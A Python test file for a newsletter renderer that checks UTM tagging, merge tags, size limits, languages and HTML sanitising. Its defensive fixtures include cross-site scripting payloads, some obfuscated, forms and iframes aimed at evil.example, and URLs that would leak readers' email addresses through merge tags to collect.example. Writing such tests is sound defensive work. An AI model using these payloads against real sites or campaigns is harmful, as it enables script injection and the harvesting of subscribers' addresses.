"""Rendering: UTM, merge tags, size under Gmail's clip, sanitising, plain text, languages."""

from __future__ import annotations

import dataclasses
import datetime as dt
import re
from html.parser import HTMLParser
from urllib.parse import parse_qs, urlsplit

import pytest

from newsletters.compose import EditionContent, Entry, EntryPicture, Section
from newsletters.demo import demo_content
from newsletters.render import GMAIL_CLIP_BYTES, render_edition, render_html, render_text
from newsletters.sanitise import sanitise_summary, shorten, with_utm


class Tags(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(html)
    return parser.tags


def content_with(summary_html: str, title: str = "News", language: str = "en") -> EditionContent:
    entry = Entry(
        title=title,
        summary_html=summary_html,
        link="https://oidp.net/news/1",
        image_url="https://oidp.net/img.jpg",
        picture=EntryPicture("https://mcusercontent.com/1/images/item-1.jpg", 552, 310, ""),
        when=dt.date(2026, 11, 3),
        item_id=1,
    )
    return EditionContent(
        language=language,
        period_start=dt.date(2026, 11, 1),
        period_end=dt.date(2026, 11, 30),
        subject="Newsletter",
        intro="Dear members,\n\nour news.",
        sections=(Section("members", (entry,)),),
        slug=f"newsletter-2026-11-{language}",
    )


def test_every_web_link_carries_the_editions_utm_parameters():
    content = demo_content("es", items=12)
    html = render_edition(content).html
    links = [a["href"] for tag, a in tags_of(html) if tag == "a"]
    web = [link for link in links if link and link.startswith("http")]
    assert len(web) >= 12
    for link in web:
        query = parse_qs(urlsplit(link).query)
        assert query["utm_source"] == ["newsletter"], link
        assert query["utm_medium"] == ["email"], link
        assert query["utm_campaign"] == [content.slug], link


def test_utm_replaces_old_values_keeps_other_parameters_and_leaves_merge_tags_alone():
    tagged = with_utm("https://a.org/x?id=3&utm_source=rss#top", "nl")
    parts = urlsplit(tagged)
    assert parse_qs(parts.query) == {
        "id": ["3"],
        "utm_source": ["newsletter"],
        "utm_medium": ["email"],
        "utm_campaign": ["nl"],
    }
    assert parts.fragment == "top"
    for untouched in ("*|UNSUB|*", "mailto:a@b.org", "ftp://x.org/f"):
        assert with_utm(untouched, "nl") == untouched


def test_the_unsubscribe_and_preferences_merge_tags_are_in_both_parts():
    rendered = render_edition(demo_content("fr", items=3))
    links = [a["href"] for tag, a in tags_of(rendered.html) if tag == "a"]
    assert "*|UNSUB|*" in links and "*|UPDATE_PROFILE|*" in links
    assert "*|UNSUB|*" in rendered.text and "*|UPDATE_PROFILE|*" in rendered.text
    # Each member's own preferences page when the audience holds their link, else Mailchimp's.
    assert "*|PREFS_URL|*" in links and "*|IF:PREFS_URL|*" in rendered.text


def test_an_edition_of_200_items_stays_under_gmails_clip_and_says_it_was_shortened():
    content = demo_content("pt", items=200)
    full, _ = render_html(content)
    assert len(full.encode()) > GMAIL_CLIP_BYTES  # the test means something
    rendered = render_edition(content)
    assert rendered.size < GMAIL_CLIP_BYTES
    assert rendered.omitted == 0 and not rendered.images
    kept = rendered.shape.summarised
    assert kept is not None and 0 < kept < 200
    assert any(f"first {kept} items" in note for note in rendered.notes)
    assert "Os resumos foram encurtados" in rendered.html
    entries = [e for s in content.sections for e in s.entries if e.item_id is not None]
    first, last = entries[0], entries[-1]

    def shown(entry: Entry) -> str:  # the entry's cell, found by its unique link
        return rendered.html.split(f'href="{entry.link}?', 1)[1].split("</td>", 1)[0]

    assert "Após" in shown(first)
    assert "Após" not in shown(last)
    assert rendered.html.count("<h3") == len(entries) + 3  # every item, events and award


def test_an_edition_too_long_for_one_email_leaves_the_last_items_out_and_says_so():
    rendered = render_edition(demo_content("en", items=400))
    assert rendered.size < GMAIL_CLIP_BYTES
    assert 0 < rendered.omitted < 400
    assert f"{rendered.omitted} more items are on the website." in rendered.html
    assert f"{rendered.omitted} items left out" in " ".join(rendered.notes)


def test_a_small_edition_is_left_whole():
    rendered = render_edition(demo_content("en", items=10))
    assert rendered.notes == () and rendered.summary_limit is None and rendered.images


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script><p>ok</p>",
        '<img src=x onerror="alert(1)"><p>ok</p>',
        '<p onclick="alert(1)">ok</p>',
        '<a href="javascript:alert(1)">ok</a>',
        '<a href="jav&#x61;script:alert(1)">ok</a>',
        "<style>body{display:none}</style><p>ok</p>",
        '<iframe src="https://evil.example"></iframe><p>ok</p>',
        '<form action="https://evil.example"><input name=x></form><p>ok</p>',
        '<svg onload="alert(1)"><p>ok</p></svg>',
        '<p style="position:fixed">ok</p><!-- comment -->',
        "</td></tr></table><p>ok</p>",
    ],
)
def test_hostile_member_html_is_sanitised_before_it_is_placed(hostile):
    html = render_edition(content_with(hostile)).html
    body = html.split("<body", 1)[1]
    assert "ok" in body
    lowered = body.lower()
    for bad in (
        "<script",
        "onerror",
        "onclick",
        "onload",
        "javascript:",
        "<iframe",
        "<form",
        "<svg",
        "position:fixed",
        "<!--",
        "evil.example",
    ):
        assert bad not in lowered, (bad, hostile)
    assert lowered.count("<table") == lowered.count("</table>")


def test_sanitised_summaries_keep_simple_formatting_and_tag_their_links():
    clean = sanitise_summary('<p>A <strong>b</strong> <a href="https://x.org/p">c</a></p>', "nl")
    assert "<strong>b</strong>" in clean
    assert (
        'href="https://x.org/p?utm_source=newsletter&amp;utm_medium=email&amp;utm_campaign=nl"'
        in clean
    )


def test_titles_are_escaped_and_images_have_size_and_alt_text():
    html = render_edition(content_with("<p>x</p>", title='<b>Bold</b> & "quoted"')).html
    assert "&lt;b&gt;Bold&lt;/b&gt; &amp;" in html
    images = [attrs for tag, attrs in tags_of(html) if tag == "img"]
    assert images
    for attrs in images:
        assert attrs.get("width") and attrs.get("height") and attrs.get("alt")


def test_the_email_is_a_table_layout_with_inlined_css_a_phone_query_dark_mode_and_a_preheader():
    html = render_edition(demo_content("en", items=3)).html
    assert 'role="presentation"' in html and "<table" in html
    assert "@media only screen and (max-width:620px)" in html
    assert "prefers-color-scheme:dark" in html and 'name="color-scheme"' in html
    assert re.search(r'<td class="e" style="[^"]*padding', html)  # inlined
    preheader = re.search(r'<div style="display:none[^"]*">([^<]*)', html)
    assert preheader and "news items" in preheader.group(1)


@pytest.mark.parametrize(
    ("language", "section", "date"),
    [
        ("en", "News from members", "November 3, 2026"),
        ("es", "Noticias de los miembros", "3 de noviembre de 2026"),
        ("fr", "Nouvelles des membres", "3 novembre 2026"),
        ("ca", "Notícies dels membres", "3 de novembre del 2026"),
        ("pt", "Notícias dos membros", "3 de novembro de 2026"),
    ],
)
def test_section_titles_and_dates_are_in_the_editions_language(language, section, date):
    rendered = render_edition(content_with("<p>x</p>", language=language))
    assert section in rendered.html and date in rendered.html
    assert section.upper() in rendered.text and date in rendered.text


def test_the_plain_text_part_has_no_markup_and_wraps_lines():
    content = content_with('<p>Hello <a href="https://x.org">there</a> &amp; welcome</p>')
    text = render_text(content)
    assert "<" not in text.replace("<=", "")
    assert "Hello there & welcome" in text
    assert "https://oidp.net/news/1?utm_source=newsletter" in text
    long_lines = [line for line in text.splitlines() if len(line) > 76 and "http" not in line]
    assert long_lines == []


def test_shortening_cuts_at_a_word_boundary():
    assert shorten("hello world again", 12) == "hello world…"
    assert shorten("short", 10) == "short"
    assert shorten("anything", 0) == ""


def test_members_cannot_inject_mailchimp_merge_tags():
    content = content_with("<p>Mail me at *|EMAIL|* or *|FOO|*</p>", title="*|LIST:COMPANY|* news")
    rendered = render_edition(content)
    for part in (rendered.html, rendered.text):
        tags = set(re.findall(r"\*\|([^|*]+)\|\*", part))
        footer = {"UNSUB", "UPDATE_PROFILE", "LIST:ADDRESSLINE", "PREFS_URL", "IF:PREFS_URL"}
        assert tags <= footer | {"ELSE:", "END:IF"}, tags
    assert "Mail me at" in rendered.html and "news" in rendered.text


LEAKY = [
    "https://collect.example/p?e=*|EMAIL|*",
    "https://collect.example/p?e=*%7CEMAIL%7C*",
    "https://collect.example/p?e=*%257CEMAIL%257C*",
    "https://collect.example/p?e=*&#124;EMAIL&#124;*",
    "https://collect.example/*|UNIQID|*.png",
]


@pytest.mark.parametrize("url", LEAKY)
def test_a_members_link_or_image_with_a_merge_tag_never_reaches_the_campaign(url: str) -> None:
    """Security finding (issue 16): *|EMAIL|* in a member's link or image address would
    send every reader's address to the submitter's server when the e-mail opens."""
    content = content_with(f'<p>See <a href="{url}">this</a></p>', title="Forum")
    [section] = content.sections
    [entry] = section.entries
    assert entry.picture is not None
    leaky_picture = dataclasses.replace(entry.picture, url=url, alt=f"see {url}")
    leaky_entry = dataclasses.replace(entry, link=url, image_url=url, picture=leaky_picture)
    content = dataclasses.replace(content, sections=(Section("members", (leaky_entry,)),))
    rendered = render_edition(content)
    for part in (rendered.html, rendered.text):
        assert "collect.example" not in part
        tags = set(re.findall(r"\*\|([^|*]+)\|\*", part))
        footer = {"UNSUB", "UPDATE_PROFILE", "LIST:ADDRESSLINE", "PREFS_URL", "IF:PREFS_URL"}
        assert tags <= footer | {"ELSE:", "END:IF"}, tags
    assert "Forum" in rendered.html and "this" in rendered.html


def test_relative_links_in_summaries_are_resolved_against_the_items_link():
    html = render_edition(content_with('<p><a href="/about">About</a></p>')).html
    assert 'href="https://oidp.net/about?utm_source=newsletter' in html
